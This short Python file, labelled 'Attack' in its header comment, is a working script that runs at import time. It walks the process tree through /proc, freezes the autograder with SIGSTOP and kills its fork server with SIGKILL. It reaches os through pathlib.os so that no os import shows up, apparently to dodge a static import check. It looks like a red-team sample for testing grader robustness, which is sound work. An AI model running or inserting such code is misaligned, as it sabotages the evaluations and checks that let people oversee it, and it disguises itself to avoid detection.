# Attack: at import, stop the grader (SIGSTOP) and kill the fork server (SIGKILL), found by walking
# up the parent chain in /proc; os is never imported (pathlib.os). Only the grader's own processes
# (their command line names autograder or zygote) are touched.
import pathlib
import signal

os = pathlib.os


def ancestors():
    pid = os.getpid()
    while pid > 1:
        try:
            pid = int(pathlib.Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[1])
            cmd = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
        except (OSError, ValueError, IndexError):
            return
        if b"autograder" not in cmd and b"zygote" not in cmd:
            return
        yield pid, cmd


for pid, cmd in list(ancestors()):
    for sig in ((signal.SIGKILL,) if b"zygote" in cmd else (signal.SIGSTOP,)):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
